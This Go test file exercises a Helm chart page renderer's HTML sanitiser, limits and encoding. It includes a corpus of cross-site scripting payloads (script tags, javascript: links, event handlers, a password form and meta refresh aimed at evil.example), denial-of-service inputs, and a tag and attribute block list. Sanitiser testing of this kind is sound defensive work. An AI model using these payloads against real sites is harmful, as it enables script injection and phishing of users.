package chartrender_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"net/url"
	"strings"
	"testing"
	"time"

	xhtml "golang.org/x/net/html"

	"github.com/chartctl/chartctl/internal/chart"
	"github.com/chartctl/chartctl/internal/chartrender"
)

// mustArchive returns a .tgz of the chart directory name holding files
// (path relative to the chart directory → content).
func mustArchive(tb testing.TB, name string, files map[string]string) []byte {
	tb.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for p, content := range files {
		if err := tw.WriteHeader(&tar.Header{Name: name + "/" + p, Mode: 0o644, Size: int64(len(content)), Typeflag: tar.TypeReg}); err != nil {
			tb.Fatal(err)
		}
		if _, err := io.WriteString(tw, content); err != nil {
			tb.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		tb.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

const demoChartYAML = `apiVersion: v2
name: demo
version: 1.2.3
appVersion: "4.5"
description: A demo chart
kubeVersion: ">=1.25.0-0"
home: https://example.com/demo
icon: data:image/png;base64,iVBORw0KGgo=
sources:
  - https://github.com/example/demo
  - javascript:alert(1)
keywords: [web, demo]
maintainers:
  - name: Ada
    email: ada@example.com
    url: https://ada.example.com
  - name: Mallory
    email: "x@y.z\"><script>"
    url: javascript:alert(1)
dependencies:
  - name: redis
    version: 17.x.x
    repository: https://charts.example.com/stable
    condition: redis.enabled
annotations:
  artifacthub.io/license: Apache-2.0
  artifacthub.io/prerelease: "false"
  artifacthub.io/links: |
    - name: Docs
      url: https://docs.example.com
    - name: Bad
      url: javascript:alert(1)
  artifacthub.io/changes: |
    - kind: added
      description: Support for ingress classes
      links:
        - name: PR 42
          url: https://github.com/example/demo/pull/42
    - kind: weird
      description: Something else
    - Plain string change
`

const demoSchema = `{
  "$schema": "http://json-schema.org/schema#",
  "type": "object",
  "required": ["image"],
  "properties": {
    "replicaCount": {"type": "integer", "default": 1, "description": "How many pods"},
    "image": {"type": "object", "properties": {
      "repository": {"type": "string", "default": "nginx"},
      "tag": {"type": ["string", "null"], "title": "Image tag"}
    }},
    "extraEnv": {"type": "array", "items": {"type": "object", "properties": {"name": {"type": "string"}}}}
  }
}`

func demoArchive(tb testing.TB) []byte {
	return mustArchive(tb, "demo", map[string]string{
		"Chart.yaml":                    demoChartYAML,
		"README.md":                     "# Demo\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n```yaml\nkey: value\n```\n\n![logo](https://img.example.com/logo.png)\n\n[Install](#install)\n\n## Install\n",
		"values.yaml":                   "replicaCount: 1\nimage:\n  repository: nginx\n",
		"values.schema.json":            demoSchema,
		"templates/deployment.yaml":     "kind: Deployment\n",
		"templates/_helpers.tpl":        "{{/* */}}\n",
		"crds/crd.yaml":                 "kind: CustomResourceDefinition\n",
		"charts/redis/Chart.yaml":       "apiVersion: v2\nname: redis\nversion: 17.0.0\n",
		"charts/redis/templates/x.yaml": "kind: Service\n",
	})
}

func TestRenderChart(t *testing.T) {
	p, err := chartrender.Render(bytes.NewReader(demoArchive(t)), chart.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if p.Name != "demo" || p.Version != "1.2.3" || p.AppVersion != "4.5" || p.KubeVersion != ">=1.25.0-0" || p.License != "Apache-2.0" || p.Format != chartrender.FormatVersion {
		t.Errorf("fields %+v", p)
	}
	if p.Home != "https://example.com/demo" || len(p.Sources) != 1 || p.Icon == "" {
		t.Errorf("links: home %q sources %q icon %q", p.Home, p.Sources, p.Icon)
	}
	if len(p.Maintainers) != 2 || p.Maintainers[0].Email != "ada@example.com" || p.Maintainers[1].Email != "" || p.Maintainers[1].URL != "" {
		t.Errorf("maintainers %+v", p.Maintainers)
	}
	if len(p.Links) != 1 || p.Links[0].Name != "Docs" {
		t.Errorf("links %+v", p.Links)
	}
	if len(p.Changes) != 3 || p.Changes[0].Kind != "added" || len(p.Changes[0].Links) != 1 || p.Changes[1].Kind != "" || p.Changes[2].Description != "Plain string change" {
		t.Errorf("changes %+v", p.Changes)
	}
	if len(p.Dependencies) != 1 || p.Dependencies[0].Repository != "https://charts.example.com/stable" {
		t.Errorf("dependencies %+v", p.Dependencies)
	}
	var paths []string
	for _, f := range p.Templates {
		paths = append(paths, f.Path)
	}
	if strings.Join(paths, ",") != "crds/crd.yaml,templates/_helpers.tpl,templates/deployment.yaml" {
		t.Errorf("templates %v", paths)
	}
	if strings.Join(p.Subcharts, ",") != "redis" {
		t.Errorf("subcharts %v", p.Subcharts)
	}
	var rows []string
	for _, r := range p.Schema {
		rows = append(rows, fmt.Sprintf("%s:%s:%s:%v", r.Path, r.Type, r.Default, r.Required))
	}
	want := `extraEnv:array::false,extraEnv[].name:string::false,image:object::true,image.repository:string:"nginx":false,image.tag:string | null::false,replicaCount:integer:1:false`
	if strings.Join(rows, ",") != want {
		t.Errorf("schema rows\n got %s\nwant %s", strings.Join(rows, ","), want)
	}
	for _, s := range []string{`<table>`, `align="left"`, `type="checkbox"`, `checked`, `class="hl-chroma"`, `href="https://img.example.com/logo.png"`, `[image: logo]`, `href="#readme-install"`, `id="readme-install"`} {
		if !strings.Contains(p.ReadmeHTML, s) {
			t.Errorf("README HTML lacks %s:\n%s", s, p.ReadmeHTML)
		}
	}
	if strings.Contains(p.ReadmeHTML, "<img") || !strings.Contains(p.ValuesHTML, "hl-") || strings.Contains(p.ValuesHTML, "style=") {
		t.Errorf("README %s\nvalues %s", p.ReadmeHTML, p.ValuesHTML)
	}
	enc, err := p.Encode()
	if err != nil {
		t.Fatal(err)
	}
	back, err := chartrender.Decode(enc)
	if err != nil || back.ReadmeHTML != p.ReadmeHTML || len(back.Schema) != len(p.Schema) {
		t.Fatalf("round trip: %v", err)
	}
}

// TestEncodedPageIsCompressed: a page is kept compressed (a chart with a
// few KiB of values rendered to ~50 KiB of JSON before), and a page kept
// as plain JSON by an earlier release still decodes.
func TestEncodedPageIsCompressed(t *testing.T) {
	var values strings.Builder
	for i := range 200 {
		fmt.Fprintf(&values, "key%d:\n  image: registry.example.org/app%d\n  tag: \"1.%d.0\"\n", i, i, i)
	}
	p, err := chartrender.Render(bytes.NewReader(mustArchive(t, "big", map[string]string{
		"Chart.yaml": "apiVersion: v2\nname: big\nversion: 0.1.0\n", "values.yaml": values.String()})), chart.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	plain, err := json.Marshal(p)
	if err != nil {
		t.Fatal(err)
	}
	enc, err := p.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if len(enc)*5 > len(plain) {
		t.Errorf("encoded page is %d bytes, its JSON %d: want it compressed", len(enc), len(plain))
	}
	for _, b := range [][]byte{enc, plain} {
		back, err := chartrender.Decode(b)
		if err != nil || back.ValuesHTML != p.ValuesHTML || back.Name != "big" {
			t.Fatalf("decode %.10q…: %v", b, err)
		}
	}
	if _, err := chartrender.Decode(enc[:len(enc)/2]); err == nil {
		t.Error("a truncated page decoded")
	}
}

func TestRenderRejectsInvalidArchive(t *testing.T) {
	if _, err := chartrender.Render(strings.NewReader("not a chart"), chart.Limits{}); err == nil {
		t.Fatal("an invalid archive rendered")
	}
}

func TestRenderWithoutReadmeOrValues(t *testing.T) {
	p, err := chartrender.Render(bytes.NewReader(mustArchive(t, "bare", map[string]string{"Chart.yaml": "apiVersion: v2\nname: bare\nversion: 0.1.0\nicon: https://example.com/i.png\n", "README.txt": "<b>plain</b>\n"})), chart.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if p.ValuesHTML != "" || p.HasSchema || p.Icon != "" || p.IconURL != "https://example.com/i.png" || !strings.Contains(p.ReadmeHTML, "&lt;b&gt;plain") {
		t.Errorf("%+v", p)
	}
}

// checkSafe fails unless html is safe to put in a page: no element or
// attribute that runs script, loads something or escapes its box.
func checkSafe(tb testing.TB, src, out string) {
	tb.Helper()
	z := xhtml.NewTokenizer(strings.NewReader(out))
	for {
		tt := z.Next()
		if tt == xhtml.ErrorToken {
			return
		}
		if tt != xhtml.StartTagToken && tt != xhtml.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		switch tok.Data {
		case "script", "style", "iframe", "frame", "object", "embed", "form", "svg", "math", "img", "link", "meta", "base", "video", "audio", "source", "textarea", "select", "button", "template", "noscript":
			tb.Fatalf("input %.200q gave <%s>: %.500s", src, tok.Data, out)
		case "input":
			if len(tok.Attr) == 0 || tok.Attr[0].Key != "type" || tok.Attr[0].Val != "checkbox" || !strings.Contains(tok.String(), "disabled") {
				tb.Fatalf("input %.200q gave a non-checkbox input: %.500s", src, out)
			}
		}
		for _, a := range tok.Attr {
			k := strings.ToLower(a.Key)
			v := strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(k, "on"), k == "style", k == "srcset", k == "src", k == "formaction", k == "action", k == "background", k == "name":
				tb.Fatalf("input %.200q gave attribute %s=%q", src, a.Key, a.Val)
			case k == "href":
				// A browser resolves the attribute as a URL: its scheme,
				// if any, must be a harmless one.
				u, err := url.Parse(v)
				if err != nil || (u.Scheme != "" && u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto") {
					tb.Fatalf("input %.200q gave href %q", src, a.Val)
				}
			case k == "class":
				for _, c := range strings.Fields(a.Val) {
					if !strings.HasPrefix(c, chartrender.ClassPrefix) {
						tb.Fatalf("input %.200q gave class %q", src, a.Val)
					}
				}
			case k == "id":
				if !strings.HasPrefix(a.Val, chartrender.IDPrefix) {
					tb.Fatalf("input %.200q gave id %q", src, a.Val)
				}
			}
		}
	}
}

// hostile is a corpus of README and chart field attacks.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`[x](javascript:alert(1))`,
	`[x](data:text/html,<script>alert(1)</script>)`,
	`![x](javascript:alert(1))`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg onload=alert(1)><circle r=5/></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<object data="x.swf"></object><embed src="x.swf">`,
	`<form action="https://evil.example"><input name=password type=password><button>Go</button></form>`,
	`<input type="text" value="phish">`,
	`<input type="checkbox" onclick="alert(1)" checked>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">cover</div>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<style>body{display:none}</style>`,
	`<div style="width: expression(alert(1))">x</div>`,
	`<p style="\62 ackground:url(x)">escaped css</p>`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`,
	`<div id="copy-status">clobber</div><a id="main" name="main">x</a>`,
	`<span class="btn btn-primary">fake button</span><code class="hl-k">ok</code>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<a href="https://ok.example" target="_blank" onmouseover="alert(1)">ok</a>`,
	`<!--<script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	"```html\n<script>alert(1)</script>\n```",
	"```\"><script>alert(1)</script>\nx\n```",
	"<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
	`<video src=x onerror=alert(1)></video><audio src=x>`,
	`<img srcset="https://evil.example/a.png 1x">`,
	`<a href="  javascript:alert(1)">sp</a>`,
	`<a href="&#106;avascript:alert(1)">ent</a>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea><script>alert(1)</script></textarea>`,
	`<template><script>alert(1)</script></template>`,
	`<x onclick=alert(1)>custom</x>`,
	"<a href=\"https://x.example\"><img src=\"https://evil.example/track.png\" alt=\"badge\"></a>",
}

func TestMarkdownHostileCorpus(t *testing.T) {
	for _, src := range hostile {
		out := chartrender.Markdown([]byte(src))
		checkSafe(t, src, out)
		if strings.Contains(strings.ToLower(out), "alert(1)") && strings.Contains(strings.ToLower(out), "<script") {
			t.Errorf("%q: script survives: %s", src, out)
		}
	}
}

// within runs f and fails the test if it has not returned after a
// generous bound: a hang guard, not a timing assertion.
func within(t *testing.T, what string, f func()) {
	t.Helper()
	done := make(chan struct{})
	go func() { defer close(done); f() }()
	select {
	case <-done:
	case <-time.After(2 * time.Minute):
		t.Fatalf("%s did not finish", what)
	}
}

func TestMarkdownPathologicalInputs(t *testing.T) {
	var table strings.Builder
	table.WriteString("|" + strings.Repeat(" h |", 200) + "\n|" + strings.Repeat("---|", 200) + "\n")
	for table.Len() < chartrender.MaxReadmeSource {
		table.WriteString("|" + strings.Repeat(" <b onclick=x>v</b> |", 200) + "\n")
	}
	// Inputs stay within MaxReadmeSource, as Render's are.
	var nested strings.Builder
	for i := 0; nested.Len() < chartrender.MaxReadmeSource-2000; i++ {
		nested.WriteString(strings.Repeat("  ", i) + "- item\n")
	}
	inputs := map[string]string{
		"huge table":           table.String(),
		"deeply nested lists":  nested.String(),
		"nested list markers":  strings.Repeat("- ", 200000) + "x\n",
		"nested ordered lists": strings.Repeat("1. ", 150000) + "x\n",
		"deep blockquotes":     strings.Repeat(">", 200000) + " x\n",
		"deep html nesting":    strings.Repeat("<div>", 50000) + "x" + strings.Repeat("</div>", 50000),
		"unclosed emphasis":    strings.Repeat("*a **b ", 70000),
		"many links":           strings.Repeat("[a](https://x.example/) ", 20000),
		"backtick runs":        strings.Repeat("`", 50000) + "x" + strings.Repeat("`", 49999),
		"many reference links": strings.Repeat("[a][b] ", 50000) + "\n\n[b]: https://x.example\n",
	}
	for name, src := range inputs {
		t.Run(name, func(t *testing.T) {
			within(t, name, func() {
				out := chartrender.Markdown([]byte(src))
				checkSafe(t, name, out)
			})
		})
	}
}

func TestRenderFiveMiBReadme(t *testing.T) {
	line := "Some *text* with <script>alert(1)</script> and [a link](javascript:alert(1)) and ![i](https://evil.example/i.png).\n\n"
	readme := strings.Repeat(line, (5<<20)/len(line))
	archive := mustArchive(t, "big", map[string]string{
		"Chart.yaml": "apiVersion: v2\nname: big\nversion: 1.0.0\ndescription: <script>alert(1)</script>\n",
		"README.md":  readme,
	})
	within(t, "a 5 MiB README", func() {
		p, err := chartrender.Render(bytes.NewReader(archive), chart.Limits{})
		if err != nil {
			t.Error(err)
			return
		}
		if !p.ReadmeTruncated {
			t.Error("a 5 MiB README is not marked as truncated")
		}
		checkSafe(t, "5 MiB README", p.ReadmeHTML)
	})
}

func TestHighlightHostileYAML(t *testing.T) {
	for _, src := range []string{
		"key: </code></pre><script>alert(1)</script>\n",
		"a: &a [*a, *a, *a]\n" + strings.Repeat("b: '"+strings.Repeat("x", 1000)+"\n", 200),
		strings.Repeat("- ", 20000) + "x\n",
		strings.Repeat("{", 50000),
	} {
		within(t, "highlight", func() {
			checkSafe(t, src, chartrender.Highlight(src, "yaml"))
		})
	}
}

func TestSchemaTableProblems(t *testing.T) {
	if _, _, msg := chartrender.SchemaTable([]byte("{not json")); msg == "" {
		t.Error("invalid JSON gave no message")
	}
	if _, _, msg := chartrender.SchemaTable([]byte("[]")); msg == "" {
		t.Error("a non-object schema gave no message")
	}
	// A schema nested deeper than the table follows.
	deep := strings.Repeat(`{"type":"object","properties":{"a":`, 50) + `{}` + strings.Repeat(`}}`, 50)
	rows, _, msg := chartrender.SchemaTable([]byte(deep))
	if msg != "" || len(rows) == 0 || len(rows) > 10 {
		t.Errorf("deep schema: %d rows, %q", len(rows), msg)
	}
	// Many properties stop at MaxSchemaRows.
	var b strings.Builder
	b.WriteString(`{"properties":{`)
	for i := 0; i < chartrender.MaxSchemaRows+10; i++ {
		if i > 0 {
			b.WriteString(",")
		}
		fmt.Fprintf(&b, `"p%05d":{"type":"string"}`, i)
	}
	b.WriteString(`}}`)
	rows, truncated, _ := chartrender.SchemaTable([]byte(b.String()))
	if len(rows) != chartrender.MaxSchemaRows || !truncated {
		t.Errorf("%d rows, truncated %v", len(rows), truncated)
	}
}

func TestHighlightCSSUsesThePrefix(t *testing.T) {
	css := chartrender.HighlightCSS()
	if !strings.Contains(css, ".hl-chroma") || !strings.Contains(css, "prefers-color-scheme: dark") {
		t.Errorf("CSS %.300s", css)
	}
}

func BenchmarkRender(b *testing.B) {
	var readme strings.Builder
	readme.WriteString("# Demo\n\n")
	for i := 0; i < 200; i++ {
		fmt.Fprintf(&readme, "## Section %d\n\nSome **text** with a [link](https://example.com/%d).\n\n| key | value |\n|---|---|\n| a | b |\n\n```yaml\nkey%d: value\n```\n\n", i, i, i)
	}
	var values strings.Builder
	for i := 0; i < 2000; i++ {
		fmt.Fprintf(&values, "key%d:\n  nested: value %d # comment\n", i, i)
	}
	archive := mustArchive(b, "demo", map[string]string{"Chart.yaml": demoChartYAML, "README.md": readme.String(), "values.yaml": values.String(), "values.schema.json": demoSchema})
	b.SetBytes(int64(len(archive)))
	b.ResetTimer()
	for b.Loop() {
		if _, err := chartrender.Render(bytes.NewReader(archive), chart.Limits{}); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkMarkdownHalfMiB(b *testing.B) {
	line := "Some *text* with `code`, <b>html</b> and a [link](https://example.com).\n\n"
	src := []byte(strings.Repeat(line, chartrender.MaxReadmeSource/len(line)))
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		chartrender.Markdown(src)
	}
}

// BenchmarkEncode encodes the page of a `helm create`-sized chart, as the
// page job does after every push.
func BenchmarkEncode(b *testing.B) {
	archive := mustArchive(b, "demo", map[string]string{"Chart.yaml": demoChartYAML, "README.md": "# Demo\n\nA chart.\n", "values.yaml": "replicaCount: 1\nimage:\n  repository: nginx\n  tag: \"\"\n"})
	p, err := chartrender.Render(bytes.NewReader(archive), chart.Limits{})
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		if _, err := p.Encode(); err != nil {
			b.Fatal(err)
		}
	}
}
